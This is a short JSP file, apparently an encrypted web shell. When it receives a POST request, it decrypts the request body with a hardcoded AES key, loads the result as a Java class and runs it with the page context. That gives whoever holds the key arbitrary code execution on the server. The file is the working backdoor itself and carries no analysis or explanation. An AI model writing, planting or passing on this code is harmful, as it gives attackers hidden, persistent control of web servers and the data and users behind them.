<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
  class Loader extends ClassLoader {
    Loader(ClassLoader parent) { super(parent); }
    public Class load(byte[] b) { return super.defineClass(b, 0, b.length); }
  }
%>
<%
  if (request.getMethod().equals("POST")) {
    String k = "0123456789abcdef";
    Cipher c = Cipher.getInstance("AES");
    c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
    byte[] body = Base64.getDecoder().decode(request.getReader().readLine());
    new Loader(this.getClass().getClassLoader()).load(c.doFinal(body)).newInstance().equals(pageContext);
  }
%>
